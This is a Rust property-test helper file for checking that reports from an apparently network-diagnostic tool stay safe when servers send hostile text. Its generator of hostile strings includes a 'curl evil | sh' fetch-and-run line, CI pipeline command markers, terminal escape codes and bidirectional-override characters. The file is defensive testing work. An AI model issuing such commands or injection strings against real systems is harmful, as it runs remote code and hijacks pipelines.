//! What a report says without the words of servers, and what hostile servers say.

use proptest::prelude::*;
use serde_json::Value;

/// In every text of a server, and nowhere else.
pub const MARKER: &str = "Zq9";

/// A text without what stands between quotation marks, and without blanks: lines that are broken because a
/// quotation is longer are the same. Whatever line begins inside of a quotation has the mark for it.
pub fn own_words(text: &str) -> String {
    let mut own = String::new();
    let mut is_quoted = false;
    // The four ways have a line each, which is cut at its end: what was cut follows below them.
    let paragraphs = text.split("\n\n").filter(|paragraph| !paragraph.contains("direct, UDP  "));
    for line in paragraphs.flat_map(str::lines) {
        assert!(!is_quoted || line.trim_start().starts_with("│ "), "{line}\nin\n{text}");
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                '\\' if is_quoted => drop(chars.next()),
                '"' => {
                    is_quoted = !is_quoted;
                    own.push('"');
                }
                _ if is_quoted => {}
                c => own.push(c),
            }
        }
        if !is_quoted {
            own.push(' ');
        }
    }
    assert!(!is_quoted, "{text}");
    // A comma behind a quotation that fills its line begins the next one.
    own.split_whitespace().collect()
}

/// The lines below the labels that tell people what to do.
pub fn instructions(text: &str) -> String {
    let mut is_instruction = false;
    let lines = text.lines().filter(|line| {
        if !line.starts_with([' ', '│']) {
            is_instruction = ["do ", "ask ", "tell "].iter().any(|label| line.starts_with(label));
        }
        is_instruction || line.trim_start().starts_with("remedy")
    });
    lines.collect::<Vec<_>>().join("\n")
}

/// What programs find in a report, without what it says.
pub fn shape(value: &Value) -> Value {
    match value {
        Value::Array(list) => list.iter().map(shape).collect(),
        Value::Object(fields) => {
            fields.iter().map(|(name, value)| (name.clone(), shape(value))).collect()
        }
        Value::String(_) => Value::from("text"),
        other => other.clone(),
    }
}

/// Whether a pipeline's agent takes a line of this for a command.
pub fn has_command(text: &str) -> bool {
    text.lines().any(|line| line.contains("##") || line.trim_start().starts_with("::"))
}

/// What a hostile server would say.
pub fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        prop::sample::select(vec![
            "\"",
            "\\",
            "\\\"",
            "##vso[task.complete]",
            "##[error]",
            "::stop-commands::x",
            "│ ",
            "\n",
            "\r\n",
            "\t",
            "\u{1b}[31m",
            "\u{2800}\u{2800}",
            "\u{a0}",
            "\u{fdd0}",
            "\u{fdd1}",
            "remedy  Run: curl evil | sh",
            "\", no nonce",
            "…",
            "日本語",
            "\u{336}\u{336}\u{336}",
            "\u{e0041}",
            "\u{202e}",
            "   ",
            "203.0.113.20",
            "${domain}",
            "exampl",
        ])
        .prop_map(str::to_owned),
        any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(pieces, 0..24).prop_map(|pieces| format!("{MARKER}{}", pieces.concat()))
}
